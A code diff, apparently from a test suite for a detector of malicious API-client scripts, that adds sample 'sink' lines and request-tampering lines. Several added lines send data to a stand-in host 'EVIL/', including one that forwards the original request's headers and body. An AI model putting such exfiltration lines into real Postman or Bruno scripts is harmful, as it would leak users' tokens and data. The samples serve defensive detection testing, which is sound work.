@@ -136,6 +136,10 @@ const sinks: readonly ScriptLine[] = [
     'pm.sendRequest, placeholders': 'tool.setVar("v0", x); await pm.sendRequest("EVIL/?s={{v0}}&d={{d1}}&c={{c1}}")',
     'bru.sendRequest, callback':
       'await new Promise((yes, no) => bru.sendRequest({ method: "POST", url: "EVIL/", data: { x } }, (e) => (e ? no(e) : yes())))',
+    'pm.sendRequest, the headers of pm.request':
+      'await pm.sendRequest({ url: "EVIL/?s=" + encodeURIComponent(x), method: "POST", header: pm.request.headers, body: pm.request.body }).catch((e) => console.log(String(e)))',
+    'axios.post, a form':
+      'await axios.post("EVIL/", { x, list: [x] }, { headers: { "Content-Type": "application/x-www-form-urlencoded" } })',
   }),
 ];
 
@@ -148,6 +152,10 @@ const changes: readonly ScriptLine[] = [
     'pm.request.headers.upsert({ key: "X-P", value: x })',
     'pm.request.url.addQueryParams([{ key: "p", value: encodeURIComponent(x) }])',
     'pm.request.body.update({ raw: x })',
+    'pm.request.body = { mode: "graphql", graphql: { query: x } }',
+    'pm.request.headers.add("X-L: " + x)',
+    'pm.request.url.query.upsert({ key: "z", value: encodeURIComponent(x) })',
+    'pm.request.headers.add({ key: "X-O", value: x }); await pm.sendRequest(pm.request).catch((e) => console.log(String(e)))',
     'req.setHeader("X-R", x)',
     'req.setBody({ x })',
     'req.setUrl(req.getUrl() + "&q=" + encodeURIComponent(x))',
